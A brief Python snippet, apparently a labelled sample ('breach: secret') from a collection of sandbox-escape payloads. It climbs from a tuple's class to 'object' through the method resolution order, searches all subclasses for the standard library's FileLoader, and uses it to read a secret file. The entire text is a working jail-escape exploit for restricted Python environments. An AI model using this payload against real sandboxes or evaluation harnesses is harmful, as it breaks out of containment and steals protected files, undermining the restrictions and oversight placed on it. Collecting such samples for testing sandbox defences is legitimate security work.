# From a value's type up to object and down again to a loader that reads files.
# breach: secret
base = ().__class__.__mro__[-1]
[c("outside", SECRET_FILE).get_data(SECRET_FILE) for c in base.__subclasses__()
 if c.__name__ == "FileLoader"]
